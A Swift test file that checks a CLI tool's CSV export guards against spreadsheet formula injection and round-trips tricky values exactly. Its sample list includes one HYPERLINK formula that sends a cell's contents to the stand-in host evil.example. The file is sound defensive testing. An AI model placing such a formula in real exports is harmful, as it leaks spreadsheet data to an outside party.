import Foundation
import OutpostCLITestSupport
import OutpostCodec
import OutpostTestSupport
import Testing

/// SPEC.md §3.2: CSV output never hands a spreadsheet a formula, and importing our own export
/// gives back exactly the values that were exported.
struct CSVInjectionTests {
  /// A custom collection with a free-text field and a decimal that may be negative.
  static let schema = #"""
    {"format":"outpost-schema/1","collection":"notes","ownership":"office",
     "id":{"column":"note_id"},
     "fields":[{"name":"office_id","type":"string"},
               {"name":"text","type":"string","max_length":1000},
               {"name":"delta","type":"decimal","scale":2,"negative":true,"nullable":true}]}
    """#

  /// Values that a spreadsheet would run, or that look like our own escape.
  static let tricky: [String] = [
    #"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#, "+1+1", "-1+1", "@SUM(A1:A9)",
    "\tindented", "=", "'", "''", "'plain", "'=quoted", "''=twice", "-12.50", "-", "x=1",
    "plain", " =spaced",
  ]

  /// A branch repository `name` with the `notes` collection.
  static func repository(_ temp: TemporaryDirectory, _ name: String) {
    _ = outpost(["init", "--office", "north", "--repo", name], in: temp.path)
    temp.write("notes.schema.json", schema)
    let added = outpost(["schema", "add", "notes.schema.json", "--repo", name], in: temp.path)
    #expect(added.status == 0, "\(added.errors)")
  }

  static func ndjson(_ values: [String]) -> String {
    values.enumerated().map { index, value in
      var out: [UInt8] = []
      JSONWriter.write(.string(value), into: &out)
      let delta = index % 2 == 0 ? #""-\#(index).50""# : "null"
      return
        #"{"note_id":"n-\#(index)","office_id":"north","text":\#(String(decoding: out, as: UTF8.self)),"delta":\#(delta)}"#
    }.joined(separator: "\n") + "\n"
  }

  @Test("export → import gives back every value exactly, including ones that begin with '")
  func roundTrip() throws {
    let temp = TemporaryDirectory()
    Self.repository(temp, "a")
    Self.repository(temp, "b")
    temp.write("notes.ndjson", Self.ndjson(Self.tricky))
    let imported = outpost(["import", "notes", "notes.ndjson", "--repo", "a"], in: temp.path)
    #expect(imported.status == 0, "\(imported.errors)")
    let csv = outpost(["export", "notes", "--repo", "a"], in: temp.path)
    #expect(csv.status == 0, "\(csv.errors)")
    temp.write("notes.csv", csv.output)
    let again = outpost(["import", "notes", "notes.csv", "--repo", "b"], in: temp.path)
    #expect(again.status == 0, "\(again.errors)")
    let original = outpost(["export", "notes", "--format", "ndjson", "--repo", "a"], in: temp.path)
    let copy = outpost(["export", "notes", "--format", "ndjson", "--repo", "b"], in: temp.path)
    #expect(!original.output.isEmpty)
    #expect(copy.output == original.output)
    // The export of the copy is the same bytes: the rule is stable.
    #expect(outpost(["export", "notes", "--repo", "b"], in: temp.path).output == csv.output)
  }

  @Test(
    "each trigger character (=, +, -, @, TAB) and a leading ' is written behind a single quote",
    arguments: [
      ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
      ("\tx", "'\tx"), ("'x", "''x"), ("'=x", "''=x"), ("-12.50", "-12.50"),
    ])
  func triggers(_ value: String, _ cell: String) throws {
    let temp = TemporaryDirectory()
    Self.repository(temp, "a")
    temp.write("one.ndjson", Self.ndjson([value]))
    let imported = outpost(["import", "notes", "one.ndjson", "--repo", "a"], in: temp.path)
    #expect(imported.status == 0, "\(imported.errors)")
    let csv = outpost(["export", "notes", "--repo", "a"], in: temp.path).output
    let row = try #require(csv.split(separator: "\n").dropFirst().first)
    // note_id,office_id,text,delta: the negative decimal is a number and keeps no quote.
    #expect(row == "n-0,north,\(cell),-0.50", "\(csv)")
  }

  @Test("an id that begins with '-' is protected in the export and read back as itself")
  func idColumn() {
    let temp = TemporaryDirectory()
    Self.repository(temp, "a")
    temp.write(
      "id.ndjson", #"{"note_id":"-n-1","office_id":"north","text":"x","delta":"-1.00"}"# + "\n")
    #expect(outpost(["import", "notes", "id.ndjson", "--repo", "a"], in: temp.path).status == 0)
    let csv = outpost(["export", "notes", "--repo", "a"], in: temp.path).output
    #expect(csv.contains("\n'-n-1,north,x,-1.00\n"), "\(csv)")
    temp.write("id.csv", csv)
    Self.repository(temp, "b")
    #expect(outpost(["import", "notes", "id.csv", "--repo", "b"], in: temp.path).status == 0)
    let copy = outpost(["export", "notes", "--format", "ndjson", "--repo", "b"], in: temp.path)
    #expect(copy.output.contains(#""note_id":"-n-1""#), "\(copy.output)")
  }

  @Test("kpi --format csv goes through the same writer: no cell begins with a formula trigger")
  func kpiCSV() throws {
    let temp = TemporaryDirectory()
    _ = outpost(["init", "--office", "north", "--repo", "r"], in: temp.path)
    temp.write("days.csv", channelDailyCSV(days: 3))
    _ = outpost(["import", "channel_daily", "days.csv", "--repo", "r"], in: temp.path)
    let csv = outpost(
      ["kpi", "--period", "2025-01", "--format", "csv", "--repo", "r"], in: temp.path)
    #expect(csv.status == 0, "\(csv.errors)")
    let cells = try CSVReader.readAll(Array(csv.output.utf8))
    #expect(!cells.records.isEmpty)
    for line in csv.output.split(separator: "\n") {
      for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
        if let first = cell.first, "=+@\t".contains(first) { Issue.record("unprotected: \(line)") }
      }
    }
  }
}
